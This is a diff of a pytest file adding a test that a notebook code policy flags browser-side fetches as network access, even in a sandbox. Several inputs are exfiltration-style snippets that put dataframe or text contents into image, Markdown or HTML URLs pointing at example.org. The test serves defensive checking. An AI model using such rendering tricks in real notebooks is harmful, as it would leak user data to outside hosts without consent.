@@ -93,6 +93,22 @@ def test_in_a_sandbox_files_and_network_do_not_ask() -> None:
 
 
 @pytest.mark.parametrize(
+    "source",
+    [
+        "from IPython.display import Image\nImage(url='https://example.org/?q=' + str(df))",
+        "HTML('<img src=\"https://example.org/?q=' + text + '\">')",
+        "IFrame('https://example.org', 1, 1)",
+        "from IPython.display import Markdown\nMarkdown('![](https://example.org/?q=' + text + ')')",
+        "%%html\n<img src='//example.org/a.png'>",
+        "display({'text/html': '<img src=https://example.org/>'}, raw=True)",
+    ],
+)
+def test_what_the_page_fetches_asks_in_a_sandbox_too(source: str) -> None:
+    """The browser has a network."""
+    assert policy.judge(Code(source), Facts(folder="/home/ana/work", sandboxed=True)).effects == ("network",)
+
+
+@pytest.mark.parametrize(
     "name, effects",
     [
         (Name("DataFrame", "", 20_000_000), ("overwrite",)),
